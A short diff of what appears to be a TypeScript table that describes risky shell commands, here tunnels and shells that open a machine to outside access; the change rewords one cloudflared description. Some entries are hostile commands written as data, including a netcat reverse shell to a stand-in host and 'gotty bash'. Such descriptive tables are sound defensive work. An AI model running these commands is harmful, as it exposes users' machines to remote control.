@@ -92,7 +92,7 @@ export const openedAccess: Family = {
     'npx localtunnel --port 3000': 'runs package `localtunnel`; opens this machine to others, from outside',
     './config.sh --url https://a.example/b --token X': 'opens this machine to others, from outside',
     'docker run --rm cloudflare/cloudflared:latest tunnel --url http://web:80':
-      'opens this machine to others, from outside',
+      'opens a container of `cloudflare/cloudflared:latest` to others, from outside',
     'npx foo-open tunnel http://localhost:3000': 'runs package `foo-open`; opens this machine to others, from outside',
     'gotty bash': 'opens a shell of this machine',
     'nc -e /bin/sh a.example 99': 'opens a shell of this machine',
